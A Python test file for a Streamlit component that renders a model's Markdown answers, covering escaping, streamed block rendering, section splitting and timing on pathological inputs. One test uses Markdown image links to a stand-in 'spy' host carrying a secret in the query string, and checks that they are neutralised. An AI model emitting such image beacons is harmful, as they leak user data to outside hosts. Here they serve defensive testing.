"""A model's Markdown: shown as it was written, safe, and drawn block by block."""

import time
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from components.markdown import SECTION, block_ends, plain, prepare, sections, told
from playground.text import clean

ANSWER = """# Head

One **bold** paragraph
on two lines.

- a
- b

  still b

1. x

| a | b |
|---|---|
| 1 | 2 |

```python
print(1)

print(2)
```

> quote

End."""


@pytest.mark.parametrize(
    ("written", "prepared"),
    [
        ("from $5 to $10", r"from \$5 to \$10"),
        ("from $5 to $10, $x^2$", r"from \$5 to \$10, $x^2$"),
        (r"\(a+b\) is short", "$a+b$ is short"),
        (r"\[x = 1\]", "$$x = 1$$"),
        ("$$\na = b\n$$\nfor $4", "$$\na = b\n$$\n" + r"for \$4"),
        ("`$5` and ```$6```", "`$5` and ```$6```"),
        ("```sh\necho $HOME ![x](y)\n```\n", "```sh\necho $HOME ![x](y)\n```\n"),
        ("```sh\necho $HOME", "```sh\necho $HOME"),
        (":red[alarm] at 10:30", r"\:red[alarm] at 10:30"),
        ("see http://a.example/b", "see http://a.example/b"),
    ],
)
def test_what_a_model_wrote_is_what_is_shown(written: str, prepared: str) -> None:
    assert prepare(written) == prepared


@pytest.mark.parametrize(
    "written", ["![pixel](https://spy.example/?q=secret)", "![a [b] c](https://spy.example)", "x ![][1]\n\n[1]: //spy"]
)
def test_no_image_is_left_for_the_browser_to_fetch(written: str) -> None:
    assert "<img" not in MarkdownIt("commonmark").render(prepare(written))


def test_a_block_is_finished_once_another_one_has_begun() -> None:
    assert block_ends("# Head\n\n") == []
    assert block_ends("# Head\n\nO") == [len("# Head\n\n")]
    assert block_ends("# Head\n\nOne\n\n- a") == [len("# Head\n\n"), len("# Head\n\nOne\n\n")]


@pytest.mark.parametrize("begun", ["-", "- ", "1", "1.", "#", "*", "|", "|--", ":-", "<", "    "])
def test_a_line_that_may_still_become_this_or_that_begins_nothing(begun: str) -> None:
    assert block_ends(f"- One\n\n{begun}") == []
    assert told(f"- One\n\n{begun}") == "- One\n\n"


@pytest.mark.parametrize(
    "begun", ["A", "- B", "1. ", "> ", "## H", "`", '"Q', "é", "1990 ", "[", "| a", "<blockquote>"]
)
def test_a_line_begins_a_block_as_soon_as_it_tells_its_kind(begun: str) -> None:
    assert block_ends(f"```\n```\n{begun}") == [len("```\n```\n")]


@pytest.mark.parametrize(
    "open_block", ["- a\n\n  b\n\n- c\n", "```\nx\n\ny\n", "| a |\n|---|\n| 1 |\n", "$$\na\n\nb\n"]
)
def test_lists_fences_tables_and_formulas_stay_whole(open_block: str) -> None:
    assert block_ends(f"Before.\n\n{open_block}")[-1:] in ([], [len("Before.\n\n")])


def test_a_long_text_is_drawn_in_sections_and_one_with_references_whole() -> None:
    text = "\n\n".join([ANSWER] * 40)
    drawn = sections(text)
    assert "".join(drawn) == text
    assert len(drawn) > 3
    assert all(SECTION <= len(section) < SECTION + len(ANSWER) for section in drawn[:-1])
    assert sections(f"{text}\n\n[1]: https://example.org") == [f"{text}\n\n[1]: https://example.org"]
    assert sections(ANSWER) == [ANSWER]


def drawn_in_blocks(text: str, cuts: list[int]) -> str:
    """The HTML of a text that arrives in pieces, each finished block rendered for itself."""
    renderer = MarkdownIt("commonmark").enable("table")
    html, start = "", 0
    for cut in [*sorted(cut % (len(text) + 1) for cut in cuts), len(text)]:
        first = start
        for end in block_ends(text[first:cut]):
            html += renderer.render(text[start : first + end])
            start = first + end
    return f"{html}{renderer.render(text[start:])}"


@given(st.lists(st.integers(0, 10_000)))
def test_an_answer_drawn_in_blocks_is_the_answer_drawn_whole(cuts: list[int]) -> None:
    assert drawn_in_blocks(ANSWER, cuts) == MarkdownIt("commonmark").enable("table").render(ANSWER)


LINES = st.sampled_from(
    [
        "word",
        "",
        "- item",
        "  more",
        "1. one",
        "> quote",
        "```",
        "# head",
        "---",
        "| a |",
        "|---|",
        "    code",
        "***",
        "\tx",
        "**bold**",
        "`code`",
        "===",
        "a | b",
        "- - x",
        "> - y",
        "1990 was",
        "(so)",
        "<div>",
        "* _z_",
    ]
)


@given(st.lists(LINES, max_size=14), st.lists(st.integers(0, 200)))
def test_any_blocks_drawn_apart_are_the_same_drawn_whole(lines: list[str], cuts: list[int]) -> None:
    text = "\n".join(lines)
    whole = MarkdownIt("commonmark").enable("table").render(text)
    assert drawn_in_blocks(text, cuts) == whole


def test_what_was_drawn_while_it_came_is_what_is_drawn_at_the_end() -> None:
    def page(text: str) -> None:
        import streamlit

        from components.markdown import LiveMarkdown, markdown

        live = LiveMarkdown(streamlit.empty())
        for start in range(0, len(text), 7):
            live.update(text[start : start + 7])
        markdown(text)

    text = "\n\n".join([ANSWER] * 40)
    drawn = [element.value for element in AppTest.from_function(page, args=(text,)).run().markdown]
    finished = [section.strip() for section in sections(text)]
    live = drawn[: -len(finished)]
    assert drawn[-len(finished) :] == finished
    assert live[: len(finished) - 1] == finished[:-1]
    assert "".join("".join(live[len(finished) - 1 :]).split()) == "".join(finished[-1].split())


@pytest.mark.parametrize("size", [1, 3, 7, 20, 90])
def test_between_two_messages_nothing_is_missing_and_nothing_there_twice(size: int) -> None:
    def page(text: str, size: int) -> None:
        import streamlit

        from components.markdown import LiveMarkdown

        class Observed(LiveMarkdown):
            frames: tuple[tuple[str, ...], ...] = ((),)

            def _put(self, text: str, *, growing: bool = False) -> None:
                kept = self.frames[-1] if self._last is None else self.frames[-1][:-1]
                self.frames = (*self.frames, (*kept, text))
                super()._put(text, growing=growing)

        live = Observed(streamlit.empty())
        for start in range(0, len(text), size):
            live.update(text[start : start + size])
        streamlit.session_state.frames = live.frames

    text = "\n\n".join([ANSWER, "A paragraph of some length. " * 20] * 4)
    frames = AppTest.from_function(page, args=(text, size)).run().session_state.frames
    shown = ["".join(sections).rstrip() for sections in frames]
    assert all(later.startswith(earlier) for earlier, later in pairwise(shown))
    assert shown[-1] == text.rstrip()
    assert frames[-1] == tuple(sections(text))
    assert len(frames[-1]) > 3


@pytest.mark.parametrize("repeated", ["x", "[", "word ", "a\n\n", "a\r\n", "```a`b\n", "~~~a`b\n", "$$ \\[\n\n"])
def test_no_text_takes_much_longer_than_others_of_its_length(repeated: str) -> None:
    text = repeated * (150_000 // len(repeated))
    began = time.process_time()
    assert "".join(sections(text)) == text
    prepare(text)
    assert time.process_time() - began < 10  # two at most on a slow machine; it was minutes, without any other thread


def test_brackets_in_a_badge_stay_in_it() -> None:
    def page() -> None:
        import streamlit

        from components.markdown import in_badge

        streamlit.badge(in_badge("*5* is not one of [1, 2]"))

    assert AppTest.from_function(page).run().markdown[0].value == r":blue-badge[\*5\* is not one of \[1, 2\]]"


@given(st.text())
def test_plain_text_is_shown_character_for_character(text: str) -> None:
    shown = MarkdownIt("commonmark").renderInline(plain(text))
    unescaped = shown.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
    assert unescaped == " ".join(clean(text).split())
